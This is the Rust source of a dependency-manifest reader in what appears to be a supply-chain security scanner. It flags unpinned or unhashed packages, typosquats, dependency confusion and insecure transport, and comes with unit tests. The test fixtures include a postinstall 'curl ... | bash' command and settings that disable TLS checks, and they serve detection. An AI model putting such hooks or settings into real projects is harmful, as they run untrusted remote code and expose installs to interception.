//! The reader of manifests and lock files: [`DependencyManifest`].

use super::names::{Likeness, likeness};
use super::rules::{TYPOSQUAT_PACKAGE, UNHASHED_PACKAGE};
use super::{Dependencies, Dependency, Pin, Purpose, included, read};
use crate::issue::report;
use crate::pin::{Pinning, Repository};
use crate::rules::{DEPENDENCY_CONFUSION, INSECURE_TRANSPORT, TLS_DISABLED, UNPINNED_PACKAGE};
use crate::{Issue, Notes, Reader, Text};
use bartizan_core::{Confidence, Kind, Rule, Severity, printable};

/// Requirements, project files and lock files of Python, JavaScript and Rust, and conda environments.
pub struct DependencyManifest;

impl Reader for DependencyManifest {
    fn id(&self) -> &'static str {
        "dependencies"
    }

    fn kind(&self) -> Kind {
        Kind::Config
    }

    fn rules(&self) -> &'static [&'static Rule] {
        RULES
    }

    fn recognises(&self, text: &Text<'_>) -> bool {
        super::read::is_manifest(text)
    }

    fn read(&self, text: &Text<'_>, notes: &mut Notes<'_>) {
        let Some(found) = read(text) else { return };
        for (offset, reason) in &found.stops {
            notes.gap(*offset, format!("dependencies not read from here on: {reason}; mend the syntax"));
        }
        report(text, notes, found.issues.iter().cloned());
        let lenient = is_for_development(text.name)
            || found.dependencies.len() > 1
                && text
                    .content
                    .lines()
                    .any(|line| line.starts_with("-c ") || line.starts_with("--constraint"));
        for dependency in &found.dependencies {
            let issue =
                pinning(dependency, found.purpose, lenient).map(|issue| match commit_pin(text, dependency) {
                    Some(pin) => issue.pinned(pin),
                    None => issue,
                });
            report(text, notes, issue);
            report(text, notes, unencrypted(text, dependency, &found));
            report(text, notes, name(dependency));
        }
        report(text, notes, hashes(&found));
        report(text, notes, included::issues(text, &found));
    }
}

/// What is wrong with one dependency of a file for `purpose`: how far it is tied down, and its name.
pub(crate) fn judged(dependency: &Dependency, purpose: Purpose) -> Vec<Issue> {
    pinning(dependency, purpose, false).into_iter().chain(name(dependency)).collect()
}

/// What is wrong with how far `dependency` is tied down.
fn pinning(dependency: &Dependency, purpose: Purpose, lenient: bool) -> Option<Issue> {
    let named = printable(&dependency.name, 80);
    // An address alone has no name to show.
    let shown = if named.is_empty() { "a package".to_owned() } else { format!("`{named}`") };
    let (severity, message) = match (&dependency.pin, purpose) {
        (Pin::Moving, Purpose::Lock) | (Pin::Exact(_) | Pin::Commit | Pin::Local | Pin::Address(true), _) => {
            return None;
        }
        (Pin::Moving, _) => (
            Severity::Medium,
            format!("{shown} comes from a repository without a commit: whatever stands there at that moment"),
        ),
        (Pin::Address(false), Purpose::Lock) => return None,
        (Pin::Address(false), _) => {
            (Severity::Low, format!("{shown} comes from an address without a digest"))
        }
        (Pin::None, Purpose::Deployment) if lenient => (Severity::Low, format!("{shown} has no version")),
        (Pin::None, Purpose::Deployment) => {
            (Severity::Medium, format!("{shown} has no version: each install takes the newest"))
        }
        (Pin::None, Purpose::Manifest) => (Severity::Info, format!("{shown} allows every version")),
        (Pin::Range(range), Purpose::Deployment) if is_open(range) => {
            let severity = if lenient { Severity::Low } else { Severity::Medium };
            let range = printable(range, 60);
            (severity, format!("{shown} allows every later version ({range}): each install takes the newest"))
        }
        (Pin::Range(range), Purpose::Deployment) => {
            (Severity::Low, format!("{shown} allows a range of versions ({})", printable(range, 60)))
        }
        (Pin::Range(range), Purpose::Manifest) if is_open(range) => {
            (Severity::Info, format!("{shown} allows every later version ({})", printable(range, 60)))
        }
        (Pin::Range(_) | Pin::None, _) => return None,
    };
    let remedy = match dependency.pin {
        Pin::Moving => "Name the full commit id behind the address.".to_owned(),
        Pin::Address(_) => "Add the digest: `#sha256=<digest>`, or `--hash=sha256:<digest>`.".to_owned(),
        _ => format!("Pin it: `{named}==<version>`, with its hash from `uv pip compile --generate-hashes`."),
    };
    Some(Issue::new(&UNPINNED_PACKAGE, dependency.span.clone(), message).severity(severity).remedy(remedy))
}

/// A dependency taken from an address without encryption, unless its reader said so.
fn unencrypted(text: &Text<'_>, dependency: &Dependency, found: &Dependencies) -> Option<Issue> {
    if !matches!(dependency.pin, Pin::Address(_) | Pin::Moving | Pin::Commit) {
        return None;
    }
    let written = text.content.get(dependency.span.clone())?;
    let clear = crate::address::clear(written)?;
    let line = |at: usize| text.line_column(at).0;
    let told = found.issues.iter().any(|issue| {
        issue.rule.id == INSECURE_TRANSPORT.id && line(issue.span.start) == line(dependency.span.start)
    });
    let message = format!("{} is fetched without encryption", printable(clear.address, 80));
    (!told).then(|| clear.source_issue(dependency.span.clone(), message))
}

/// How a requirement from a git repository is pinned: `git+https://host/path.git[@revision][#fragment]`.
///
/// Source: pip documentation, "VCS Support".
pub(super) fn commit_pin(text: &Text<'_>, dependency: &Dependency) -> Option<Pinning> {
    let part = text.content.get(dependency.span.clone()).filter(|_| dependency.pin == Pin::Moving)?;
    let written = part.get(part.find("git+http")?..)?.strip_prefix("git+")?;
    let end = written.find(|c: char| c.is_whitespace() || matches!(c, '#' | '"' | '\'' | ',' | ';'));
    let address = written.get(..end.unwrap_or(written.len()))?;
    if crate::address::is_filled_in(address) || address.contains('?') {
        return None;
    }
    let (path, last) = address.rsplit_once('/')?;
    Some(match last.split_once('@') {
        Some((name, revision)) => Pinning::commit(Repository::At(format!("{path}/{name}")), revision),
        None => Pinning::default_branch(Repository::At(address.to_owned()), address),
    })
}

/// Whether a range of versions has no end: `>=1.0`, `!=2.1`.
fn is_open(range: &str) -> bool {
    let mut parts = range.split(',').map(str::trim).filter(|part| !part.is_empty()).peekable();
    parts.peek().is_some()
        && parts.all(|part| part.starts_with(">=") || part.starts_with('>') || part.starts_with("!="))
}

/// What is wrong with its name.
fn name(dependency: &Dependency) -> Option<Issue> {
    let (confidence, severity, message, meant) = match likeness(dependency.ecosystem, &dependency.name)? {
        Likeness::Slip(meant) => (
            Confidence::Medium,
            Severity::High,
            format!("`{}` is one slip from `{meant}`, which many use", printable(&dependency.name, 80)),
            meant,
        ),
        Likeness::Misnomer(meant) => (
            Confidence::Medium,
            Severity::Medium,
            format!(
                "`{}` is not the name of the package that is called `{meant}`",
                printable(&dependency.name, 80)
            ),
            meant.to_owned(),
        ),
    };
    Some(
        Issue::new(&TYPOSQUAT_PACKAGE, dependency.span.clone(), message)
            .severity(severity)
            .confidence(confidence)
            .remedy(format!("Check who publishes it; if `{meant}` was meant, write that.")),
    )
}

/// One note for the first pinned dependency without a digest.
fn hashes(found: &Dependencies) -> Option<Issue> {
    let bare = |dependency: &&Dependency| matches!(dependency.pin, Pin::Exact(_)) && !dependency.hashed;
    let first = found.dependencies.iter().find(bare)?;
    let count = found.dependencies.iter().filter(bare).count();
    if found.purpose == Purpose::Manifest {
        return None;
    }
    let some_hashed = found.dependencies.iter().any(|dependency| dependency.hashed);
    let severity = if some_hashed { Severity::Low } else { Severity::Info };
    let message = format!("{count} of {} packages are pinned without a digest", found.dependencies.len());
    Some(Issue::new(&UNHASHED_PACKAGE, first.span.clone(), message).severity(severity))
}

/// Whether the file is for developing, testing or documenting, and not for what is deployed.
fn is_for_development(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let file = name.rsplit('/').next().unwrap_or(&name);
    ["dev", "test", "doc", "lint", "build", "example", "constraints", "typing", "ci"]
        .iter()
        .any(|part| file.contains(part))
}

static RULES: &[&Rule] = &[
    &UNPINNED_PACKAGE,
    &UNHASHED_PACKAGE,
    &TYPOSQUAT_PACKAGE,
    &DEPENDENCY_CONFUSION,
    &INSECURE_TRANSPORT,
    &TLS_DISABLED,
    &crate::rules::CURL_PIPE_SHELL,
    &crate::rules::REMOTE_CODE,
    &super::rules::KNOWN_VULNERABLE_PACKAGE,
    &super::rules::VULNERABILITIES_NOT_CHECKED,
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::found;

    #[test]
    fn requirements_are_graded_by_how_far_they_are_tied_down() {
        assert_eq!(
            found("requirements.txt", "scipy>=1.0,<2\n"),
            [("pipeline/unpinned-package", 1, Severity::Low)]
        );
        let text = "numpy\nscipy>=1.0\npandas==2.2.0\ngit+https://github.com/a/b@main\n";
        assert_eq!(
            found("requirements.txt", text),
            [
                ("pipeline/unhashed-package", 3, Severity::Info),
                ("pipeline/unpinned-package", 1, Severity::Medium),
                ("pipeline/unpinned-package", 2, Severity::Medium),
                ("pipeline/unpinned-package", 4, Severity::Medium),
            ]
        );
    }

    #[test]
    fn indices_are_judged() {
        let text = "--index-url http://pypi.example/simple\n--trusted-host pypi.example\n--extra-index-url https://x.example/simple\n";
        assert_eq!(
            found("requirements.txt", text),
            [
                ("pipeline/dependency-confusion", 3, Severity::Medium),
                ("pipeline/insecure-transport", 1, Severity::Medium),
                ("pipeline/tls-disabled", 2, bartizan_core::Severity::Medium.max(TLS_DISABLED.severity)),
            ]
        );
    }

    #[test]
    fn ranges_of_a_library_are_normal_and_a_slip_in_a_name_is_not() {
        assert_eq!(
            found("pyproject.toml", "[project]\nname = \"a\"\ndependencies = [\n  \"numpy>=1,<2\",\n]\n"),
            []
        );
        assert_eq!(
            found("pyproject.toml", "[project]\nname = \"a\"\ndependencies = [\n  \"numpy>=1\",\n]\n"),
            [("pipeline/unpinned-package", 4, Severity::Info)]
        );
        assert_eq!(
            found("pyproject.toml", "[project]\ndependencies = [\n  \"reqeusts>=1\",\n]\n"),
            [
                ("pipeline/typosquat-package", 3, Severity::High),
                ("pipeline/unpinned-package", 3, Severity::Info)
            ]
        );
    }

    #[test]
    fn settings_of_package_managers_are_judged() {
        let uv = "[project]\nname = \"a\"\n[tool.uv]\nallow-insecure-host = [\"pypi.example\"]\nindex-strategy = \"unsafe-best-match\"\n";
        assert_eq!(
            found("pyproject.toml", uv),
            [
                ("pipeline/dependency-confusion", 5, Severity::Medium),
                ("pipeline/tls-disabled", 4, Severity::High)
            ]
        );
        assert_eq!(
            found(
                "uv.toml",
                "index-strategy = \"first-index\"\nextra-index-url = [\"https://x.example/simple\"]\n"
            ),
            [("pipeline/dependency-confusion", 2, Severity::Medium)]
        );
        let pip = "[global]\nindex-url = http://pypi.example/simple\ntrusted-host = pypi.example\nextra-index-url =\n    https://x.example/simple\ntimeout = 60\n";
        assert_eq!(
            found("pip.conf", pip),
            [
                ("pipeline/dependency-confusion", 5, Severity::Medium),
                ("pipeline/insecure-transport", 2, Severity::Medium),
                ("pipeline/tls-disabled", 3, Severity::High)
            ]
        );
        assert_eq!(found("pip.conf", "[global]\nindex-url = https://pypi.example/simple\n"), []);
    }

    #[test]
    fn environments_of_pixi_are_judged() {
        let text = "[project]\nname = \"a\"\n[dependencies]\npython = \"3.12.*\"\nnumpy = \"*\"\nscipy = \"==1.13.0\"\n[pypi-dependencies]\ntorch = \">=2\"\nsam = { git = \"https://git.example/sam\" }\nb = { git = \"https://git.example/b\", rev = \"0123456789abcdef0123456789abcdef01234567\" }\n";
        assert_eq!(
            found("pixi.toml", text),
            [
                ("pipeline/unpinned-package", 5, Severity::Medium),
                ("pipeline/unpinned-package", 8, Severity::Medium),
                ("pipeline/unpinned-package", 9, Severity::Medium)
            ]
        );
    }

    #[test]
    fn repositories_asked_without_encryption_are_found() {
        let lines = "-e git+http://git.example/a@0123456789abcdef0123456789abcdef01234567#egg=a\n";
        assert_eq!(found("requirements.txt", lines), [("pipeline/insecure-transport", 1, Severity::Medium)]);
    }

    #[test]
    fn packages_from_addresses_without_encryption_are_found_in_every_manifest() {
        let clear = |found: Vec<(&'static str, u32, Severity)>| -> Vec<u32> {
            found
                .into_iter()
                .filter(|(rule, ..)| *rule == INSECURE_TRANSPORT.id)
                .map(|(_, line, _)| line)
                .collect()
        };
        let project = |scheme: &str| {
            format!(
                "[project]\nname = \"a\"\ndependencies = [\n  \"w @ {scheme}://f.example/w-1.0.tar.gz\",\n]\n"
            )
        };
        assert_eq!(clear(found("pyproject.toml", &project("http"))), [4]);
        assert_eq!(clear(found("pyproject.toml", &project("https"))), [0u32; 0]);
        let package = |scheme: &str| {
            format!("{{\n\"dependencies\": {{\n\"w\": \"{scheme}://f.example/w.tgz\"\n}}\n}}\n")
        };
        assert_eq!(clear(found("package.json", &package("http"))), [3]);
        assert_eq!(clear(found("package.json", &package("https"))), [0u32; 0]);
        assert_eq!(clear(found("requirements.txt", "w @ http://f.example/w-1.0.tar.gz\n")), [1]);
    }

    #[test]
    fn scripts_of_a_package_are_read_as_commands() {
        let package = |script: &str| format!("{{\n\"scripts\": {{\n\"agent\": \"{script}\"}}}}\n");
        let ids = |script: &str| -> Vec<&'static str> {
            found("package.json", &package(script)).into_iter().map(|(rule, ..)| rule).collect()
        };
        assert_eq!(ids("NODE_TLS_REJECT_UNAUTHORIZED=0 node agent.js"), [TLS_DISABLED.id]);
        assert_eq!(ids("vllm serve acme/net --trust-remote-code"), ["pipeline/remote-code"]);
        assert_eq!(ids("tsc && node dist/agent.js"), [""; 0]);
    }

    #[test]
    fn what_runs_at_installation_is_judged() {
        let package = |script: &str| format!("{{\n\"scripts\": {{\n\"postinstall\": \"{script}\"}}}}\n");
        let piped = found("package.json", &package("curl -s https://x.example/p.sh | bash"));
        assert_eq!(piped, [("pipeline/curl-pipe-shell", 3, Severity::High)]);
        assert_eq!(found("package.json", &package("node build.js")), []);
    }

    #[test]
    fn packages_asked_for_by_setup_are_judged() {
        let setup = |package: &str| {
            let content = format!(
                "from setuptools import setup\nsetup(name='a', install_requires=[\n  '{package}',\n])\n"
            );
            found("setup.py", &content)
        };
        assert_eq!(
            setup("a @ git+https://git.example/a@main"),
            [("pipeline/unpinned-package", 3, Severity::Medium)]
        );
        assert_eq!(setup("numpy>=1.26,<2"), []);
        assert_eq!(setup("numpy>=1.26"), [("pipeline/unpinned-package", 3, Severity::Info)]);
    }

    #[test]
    fn a_hashed_requirement_is_fine() {
        assert_eq!(found("requirements.txt", "numpy==1.26.4 \\\n  --hash=sha256:00\n"), []);
    }
}
